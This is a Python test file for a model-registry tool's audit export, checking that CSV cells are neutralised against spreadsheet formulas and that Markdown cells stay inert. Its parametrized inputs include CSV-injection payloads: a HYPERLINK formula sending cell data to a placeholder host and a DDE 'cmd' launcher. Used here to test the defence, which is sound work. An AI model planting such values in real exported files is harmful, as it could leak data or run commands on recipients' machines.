"""Events leave as CSV and Markdown in which a hostile name, reason or author is only a text."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gitmodel.cli.audit_output import audit_csv, audit_markdown, event_documents
from gitmodel.cli.json_output import document
from gitmodel.domain.audit_events import VersionId
from gitmodel.workflows.audit import AuditReport, AuditRow

ROW = AuditRow(
    time="2026-05-06T14:00:02Z",
    event="promoted",
    name="fraud",
    alias="production",
    before=VersionId(5, "blake3:aa"),
    after=VersionId(7, "blake3:bb"),
    by="Ada <ada@example.org>",
    merged_by="GitHub <noreply@github.com>",
    signed="good",
    commit="3f2a91c0de" * 4,
    why='said "yes", at last',
    imported=None,
)


def row(why: str, by: str = "Ada <ada@example.org>") -> AuditRow:
    import dataclasses

    return dataclasses.replace(ROW, why=why, by=by)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_csv_is_what_rfc_4180_says() -> None:
    assert audit_csv([ROW]) == (
        "time,event,name,alias,from_version,from_digest,to_version,to_digest,by,merged_by,signed,"
        "commit,why,target,seq\r\n"
        "2026-05-06T14:00:02Z,promoted,fraud,production,5,blake3:aa,7,blake3:bb,"
        "Ada <ada@example.org>,GitHub <noreply@github.com>,good,"
        f'{ROW.commit},"said ""yes"", at last",,\r\n'
    )


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        " \t=1",
        "\uff1d1",
        "\u00a0=1",
        "\u3000\uff0b1",
    ],
)
def test_no_cell_of_csv_is_a_formula(text: str) -> None:
    shown = cells(audit_csv([row(text, by=text)]))[1]

    assert shown[8].lstrip().startswith(("'", "\\"))
    assert shown[12].lstrip().startswith(("'", "\\"))


def test_a_quoted_text_behind_a_semicolon_is_no_formula() -> None:
    assert cells(audit_csv([row('a;"=1;" "+2')]))[1][12] == """a;'"=1;'" "+2"""


def test_a_semicolon_begins_no_formula_either() -> None:
    assert cells(audit_csv([row("x;=1;+2; @a")]))[1][12] == "x;'=1;'+2;' @a"


@given(st.text(max_size=60))
def test_every_event_is_one_line_of_csv(text: str) -> None:
    shown = audit_csv([row(text, by=text)])

    assert shown.count("\n") == 2
    title, event = cells(shown)
    assert len(title) == len(event)
    assert shown.replace("\r\n", "").isprintable()


@given(st.text(max_size=60))
def test_no_text_leaves_its_cell_of_markdown(text: str) -> None:
    lines = audit_markdown(AuditReport("main", (row(text, by=text),))).splitlines()

    assert len(lines) == 5
    assert lines[4].count("|") == 10
    assert lines[4].count("`") in (14, 16, 18)  # every cell is a code span, or empty
    assert not {"<", ">"} & set(lines[4])


def test_markdown_names_nobody_and_links_nothing() -> None:
    text = audit_markdown(AuditReport("main", (row("ping @ada, see #12 and [x](http://y)"),)))

    assert text == (
        "Events on `main`, by the dates of its commits (UTC).\n"
        "\n"
        "| time | event | model | change | by | merged by | signed | commit | why |\n"
        "| --- | --- | --- | --- | --- | --- | --- | --- | --- |\n"
        "| `2026-05-06 14:00:02` | `promoted` | `fraud@production` | `v5 -\u203a v7` | `Ada` | `GitHub` | "
        "`good` | `3f2a91c0de` | `ping @ada, see #12 and [x](http://y)` |\n"
    )


def test_json_has_the_fields_that_scripts_read() -> None:
    (event,) = event_documents([ROW])

    assert list(event) == [
        *("time", "event", "name", "alias", "from", "to", "by", "merged_by", "signed", "commit"),
        *("why", "target", "seq", "imported"),
    ]
    assert '"from": {\n    "version": 5,\n    "digest": "blake3:aa"\n  }' in document(event)
